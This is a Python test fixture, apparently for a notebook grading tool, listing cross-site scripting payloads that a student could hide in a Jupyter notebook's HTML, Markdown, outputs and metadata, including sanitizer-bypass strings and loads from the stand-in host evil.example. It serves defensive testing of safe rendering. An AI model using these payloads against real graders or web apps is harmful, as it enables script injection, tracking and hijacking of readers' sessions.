"""Attacks that a student could write into a notebook on its readers. Each was tried for real.

Each contains the word `evil`, in the code that would run or the address that would be loaded.
"""

import base64

PNG = base64.b64encode(b"\x89PNG\r\n\x1a\n" + bytes(30)).decode()

HTML = (
    "<script>evil()</script>",
    "<script src=https://evil.example/x.js></script>",
    "<scr<script>ipt>evil()</scr</script>ipt>",
    "<img src=x onerror=evil()>",
    "<img src=https://evil.example/seen.png>",
    "<img srcset=https://evil.example/seen.png src=//evil.example/seen.png>",
    "<IMG SRC=`x` OnErRoR=evil()//",
    "<a href=javascript:evil()>a link</a>",
    "<a href='jav&#x09;ascript:evil()'>a link</a>",
    "<a href=' &#1; JaVaScRiPt:evil()'>a link</a>",
    "<a href='data:text/html,<script>evil()</script>'>a link</a>",
    "<a href='files/javascript:evil()'>a link</a>",
    "<a href='/formgrader/?path=submitted/evil'>a link</a>",
    "<a href='evil.html'>a link</a>",
    "<a href='//evil.example'>a link</a>",
    "<a href='https://example.org/' target=evil ping=//evil.example onclick=evil()>a link</a>",
    "<a data-link='evil' class='navbar-fixed-top evil' style='position:fixed;inset:0'>over all</a>",
    "<svg onload=evil()><script>evil()</script><use href='https://evil.example/x.svg#a'/></svg>",
    "<svg><a xlink:href='javascript:evil()'><text>a link</text></a></svg>",
    "<math href='javascript:evil()'>a link</math>",
    "<iframe src=https://evil.example></iframe><iframe srcdoc='<script>evil()</script>'></iframe>",
    "<object data=https://evil.example></object><embed src=https://evil.example>",
    "<style>@import 'https://evil.example/x.css'; * {background: url(//evil.example)}</style>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<div style='background: url(https://evil.example/seen.png)'>a block</div>",
    "<base href=https://evil.example><meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<form action=https://evil.example><input name=evil autofocus onfocus=evil()><button>go",
    "<button formaction=javascript:evil()>go</button><textarea onfocus=evil()></textarea>",
    "<details open ontoggle=evil()><summary>more</summary></details>",
    "<video src=https://evil.example><source onerror=evil()></video><audio src=x onerror=evil()>",
    "<body onload=evil()><marquee onstart=evil()>text</marquee>",
    "<template><script>evil()</script></template><xmp><img src=x onerror=evil()></xmp>",
    "<noscript><p title='</noscript><img src=x onerror=evil()>'></noscript>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 "
    "onerror=evil()&gt;'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=evil()>",
    "<svg><p><style><g title='</style><img src=x onerror=evil()>'>",
    "<p title='\"><script>evil()</script>'>text</p>",
    "<!--><script>evil()</script>--><!-- <p title='--><img src=x onerror=evil()>'>",
    "<![CDATA[<script>evil()</script>]]><?xml <script>evil()</script> ?>",
    "<div class='jp-Mermaid'><pre class='mermaid'>A--><img src=x onerror=evil()></pre></div>",
    "<script type='text/x-mathjax-config'>evil()</script><script type=math/tex>evil</script>",
    "</div></div></div></div></body></html><script>evil()</script>",
    "<input id=test_gradient_check name=evil><p id=test_gradient_check>mine</p>",
    "<title></title><plaintext><script>evil()</script>",
)

MARKDOWN = (
    *HTML,
    "[a link](javascript:evil())",
    "[a link](JaVaScRiPt&colon;evil())",
    "[a link](data:text/html;base64,ZXZpbA==)",
    "[a link](files/javascript:evil())",
    "![a picture](https://evil.example/seen.png)",
    "![a picture](javascript:evil())",
    '![" onerror=evil() "](x "\' onerror=evil() \'")',
    "![a picture](attachment:page.html)",
    "![a picture](attachment:none.png)",
    "<javascript:evil()>",
    "```mermaid\ngraph TD; A --> B<img src=x onerror=evil()>\n```",
    '```"><script>evil()</script>\ncode\n```',
    "# <script>evil()</script> a heading <img src=x onerror=evil()>",
    "| a | <img src=x onerror=evil()> |\n|---|---|\n| <script>evil()</script> | b |",
    "$a <script>evil()</script> b$ and $$<img src=x onerror=evil()>$$",
    "\\begin{x}<img src=x onerror=evil()>\\end{x}",
    "- [ ] <img src=x onerror=evil()>",
)

ATTACHMENTS = {
    "page.html": {"text/html": base64.b64encode(b"<script>evil()</script>").decode()},
    "wrong.png": {"image/png": "'\" onerror=evil() x='"},
}

SVG = (
    '<svg xmlns="http://www.w3.org/2000/svg" onload="evil()"><script>evil()</script>'
    '<image href="https://evil.example/seen.png"/></svg>'
)

OUTPUTS = (
    {"output_type": "display_data", "metadata": {},
     "data": {"application/javascript": "evil()", "text/plain": "<script>evil()</script>"}},
    {"output_type": "display_data", "metadata": {},
     "data": {"application/vnd.jupyter.widget-view+json": {"model_id": "evil"}}},
    {"output_type": "display_data", "metadata": {},
     "data": {"text/vnd.mermaid": "<b onclick=evil()>"}},
    {"output_type": "display_data", "metadata": {}, "data": {"image/svg+xml": SVG}},
    {"output_type": "display_data", "metadata": {"image/png": {
        "width": "1 onload=evil()", "height": "1 onerror=evil()", "alt": "' onload=evil() '"}},
     "data": {"image/png": PNG}},
    {"output_type": "display_data", "metadata": {"filenames": {
        "image/png": "https://evil.example/seen.png"}}, "data": {"image/png": PNG}},
    {"output_type": "display_data", "metadata": {},
     "data": {"image/png": "\"><script>evil()</script>"}},
    {"output_type": "display_data", "metadata": {"text/html": {"isolated": True}},
     "data": {"text/html": "<script>evil()</script>"}},
    {"output_type": "display_data", "metadata": {},
     "data": {"text/latex": "$\\href{javascript:evil()}{a}$<script>evil()</script>"}},
    {"output_type": "stream", "name": "stdout",
     "text": "\x1b[31m<script>evil()</script>\x1b[38;2;1;2;3monly a colour\x1b[0m"},
    {"output_type": "error", "ename": "<script>evil()</script>", "evalue": "<b onclick=evil()>",
     "traceback": ["\x1b[31m<script>evil()</script>", "<img src=x onerror=evil()>"]},
    *({"output_type": "display_data", "metadata": {}, "data": {"text/html": each}}
      for each in HTML),
    *({"output_type": "display_data", "metadata": {}, "data": {"text/markdown": each}}
      for each in MARKDOWN),
)  # fmt: skip

CELL_METADATA = {
    "tags": ["'\" onclick=evil()", "><script>evil()</script>"],
    "alt": "\" onload=evil() \"",
    "magics_language": "\" onclick=evil() \"",
    "nbgrader": {
        "grade_id": "\"><script>evil()</script>", "grade": False, "solution": False,
        "locked": True, "task": False, "schema_version": 3,
    },
}  # fmt: skip

NOTEBOOK_METADATA = {
    "title": "</title><script>evil()</script>",
    "language_info": {"name": "\"><script>evil()</script>", "pygments_lexer": "evil"},
    "widgets": {"application/vnd.jupyter.widget-state+json": {
        "version_major": 2, "version_minor": 0,
        "state": {"evil": {"model_name": "</script><script>evil()</script>"}}}},
}  # fmt: skip
